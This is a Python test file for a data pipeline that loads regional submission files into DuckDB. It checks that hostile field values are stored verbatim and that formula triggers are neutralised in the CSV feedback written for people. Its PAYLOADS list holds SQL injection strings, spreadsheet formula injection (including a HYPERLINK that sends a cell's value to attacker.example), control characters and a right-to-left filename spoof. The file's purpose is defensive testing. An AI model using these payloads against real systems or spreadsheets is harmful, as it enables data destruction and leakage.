"""Hostile values are data, never code: SQL, spreadsheet formulas, control characters and
right-to-left overrides in every field are stored verbatim, change nothing else, and are
neutralized in the CSV feedback written for people."""

import csv
import json
from pathlib import Path

import duckdb

from orchestration.lib.feedback import neutralize
from orchestration.lib.settings import Settings
from tests.conftest import query, refresh, write_file, write_json

PAYLOADS = [
    "'; drop table marts.fct_online_dossier_rate; --",
    "x' or '1'='1",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "bell\x07and\x1bescape",
    "\u202eevil.exe\u202c",
    "Robert'); DROP TABLE raw.file_ledger;--",
]
GOOD_FILE = (
    "region,period,metric,value\nVN-HN,2024,online_dossiers,700\nVN-HN,2024,total_dossiers,1000\n"
)


def _payload_csv() -> str:
    lines = ["region,period,metric,sector,value,unit,note"]
    for p in PAYLOADS:
        quoted = '"' + p.replace('"', '""') + '"'
        lines += [
            f"{quoted},2024,online_dossiers,all,1,,",
            f"VN-HN,{quoted},online_dossiers,all,1,,",
            f"VN-HN,2024,{quoted},all,1,,",
            f"VN-HN,2024,online_dossiers,all,{quoted},,",
            f"VN-HN,2024,digitized_services,{quoted},5,,{quoted}",
            f"VN-HN,2024,online_dossiers,all,1,{quoted},",
        ]
    return "\n".join(lines) + "\n"


def test_hostile_values_are_stored_verbatim_and_change_nothing_else(
    landing: tuple[Path, Path],
) -> None:
    root, warehouse = landing
    write_file(root, "VN-HN/good.csv", GOOD_FILE)
    write_file(root, "VN-HN/hostile.csv", _payload_csv())
    write_json(
        root,
        "VN-HN/hostile.json",
        [{"region": p, "period": p, "metric": p, "value": p, "note": p} for p in PAYLOADS],
    )
    refresh()

    # the good file publishes exactly its own fact; the registry and the schema are intact
    facts = query(
        warehouse,
        "select region_code, period, sector, numerator, denominator from marts.fct_online_dossier_rate",
    )
    assert facts == [("VN-HN", "2024", "all", 700, 1000)]
    assert query(warehouse, "select count(*) from marts.dim_region") == [(125,)]
    tables = {
        r[0]
        for r in query(
            warehouse, "select table_name from duckdb_tables() where schema_name = 'marts'"
        )
    }
    assert {
        "fct_online_dossier_rate",
        "submission_files",
        "data_quality_issues",
        "dim_region",
    } <= tables
    raw_values = {r[0] for r in query(warehouse, "select raw_value from marts.data_quality_issues")}
    for payload in PAYLOADS:
        assert payload in raw_values, payload
    records = [
        json.loads(r[0])
        for r in query(
            warehouse,
            "select raw_record from marts.data_quality_issues where file_path = 'VN-HN/hostile.json'",
        )
    ]
    assert {rec["note"] for rec in records} == set(PAYLOADS)
    # accepted rows keep their hostile notes and sectors verbatim in the pipeline's state
    state = duckdb.connect(str(Settings.from_env().state_db), read_only=True)
    try:
        kept = state.execute(
            "select note, sector_raw from raw.parsed_observations where metric = 'digitized_services'"
        ).fetchall()
        accepted = state.execute(
            "select count(*) from raw.validated_observations where metric = 'digitized_services'"
        ).fetchone()[0]
    finally:
        state.close()
    assert {r[0] for r in kept} == set(PAYLOADS) and {r[1] for r in kept} == set(PAYLOADS)
    assert accepted == len(PAYLOADS)

    # the province's feedback file shows each payload, with formulas defused
    feedback = (warehouse.parent / "feedback" / "VN-HN.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(feedback.splitlines(keepends=True)) for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"click")' in cells
    # where a ';'-splitting spreadsheet would start a cell, the formula sign is defused too
    assert "'; drop table marts.fct_online_dossier_rate; '--" in cells


def test_neutralize_only_prefixes_formula_triggers() -> None:
    assert neutralize("=1+1") == "'=1+1"
    assert neutralize("-5") == "'-5"
    assert neutralize("@x") == "'@x"
    assert neutralize("\tx") == "'\tx"
    assert neutralize("Hà Nội") == "Hà Nội"
    assert neutralize(None) == ""
    assert neutralize(12) == "12"


def test_neutralize_sees_through_leading_spaces_and_full_width_signs() -> None:
    for formula in (" =1+1", "\u00a0+1", "\uff1d1+1", "\u3000\uff20SUM(A1)", "\n=1"):
        assert neutralize(formula) == "'" + formula, repr(formula)
    assert neutralize("1 = 1") == "1 = 1"


def test_a_semicolon_spreadsheet_never_sees_a_formula_cell(tmp_path: Path) -> None:
    """A spreadsheet splitting on ';' or ',' finds no cell that starts a formula."""
    from orchestration.lib.feedback import write_feedback

    warehouse = tmp_path / "w.duckdb"
    conn = duckdb.connect(str(warehouse))
    conn.execute("create schema marts")
    conn.execute(
        "create table marts.submission_files as select 'a' as file_sha256, 'VN-HN/x.csv' as "
        "file_path, 'VN-HN' as submitter, 'partially_accepted' as status"
    )
    conn.execute(
        "create table marts.data_quality_issues as select 'a' as file_sha256, 'VN-HN/x.csv' "
        "as file_path, 2 as row_number, 'unknown_region' as rule, 'row_rejected' as severity, "
        "'region' as field, 'x;=1+1' as raw_value, 'unknown region' as message"
    )
    conn.close()
    write_feedback(warehouse, tmp_path / "feedback")
    text = (tmp_path / "feedback" / "VN-HN.csv").read_text(encoding="utf-8-sig")
    for delimiter in (",", ";"):
        for row in csv.reader(text.splitlines(), delimiter=delimiter):
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "@")), (delimiter, cell)
    assert '"x;\'=1+1"' in text


def test_feedback_is_rewritten_only_for_submitters_whose_findings_changed(
    tmp_path: Path,
) -> None:
    from orchestration.lib.feedback import FeedbackWritten, write_feedback

    warehouse, feedback = tmp_path / "w.duckdb", tmp_path / "feedback"
    conn = duckdb.connect(str(warehouse))
    conn.execute("create schema marts")
    conn.execute(
        "create table marts.submission_files as select * from (values "
        "('a', 'VN-HN/x.csv', 'VN-HN', 'partially_accepted'), "
        "('b', 'MN/y.csv', 'MN', 'accepted')) as t(file_sha256, file_path, submitter, status)"
    )
    conn.execute(
        "create table marts.data_quality_issues as select 'a' as file_sha256, 'VN-HN/x.csv' "
        "as file_path, 2 as row_number, 'unknown_region' as rule, 'row_rejected' as severity, "
        "'region' as field, 'Ha Noj' as raw_value, 'unknown region' as message"
    )
    conn.close()
    assert write_feedback(warehouse, feedback).rewritten == {"MN": 1, "VN-HN": 1}
    assert write_feedback(warehouse, feedback) == FeedbackWritten(2, {})  # nothing changed
    (feedback / "MN.csv").unlink()
    assert write_feedback(warehouse, feedback).rewritten == {"MN": 1}  # gone: written again
    with duckdb.connect(str(warehouse)) as conn:
        conn.execute("update marts.data_quality_issues set message = 'unknown region!'")
    assert write_feedback(warehouse, feedback).rewritten == {"VN-HN": 1}
    assert "unknown region!" in (feedback / "VN-HN.csv").read_text(encoding="utf-8-sig")


def test_feedback_names_never_collide_and_are_never_too_long() -> None:
    from orchestration.lib.feedback import feedback_name

    names = {feedback_name(s) for s in ("VN HN", "VN_HN", "VN-HN", "vn hn", "VN/HN")}
    assert len(names) == 5 and "VN-HN.csv" in names and "VN_HN.csv" in names
    assert len(feedback_name("X" * 250).encode()) < 100
    assert len(feedback_name("Ф" * 250).encode()) < 100
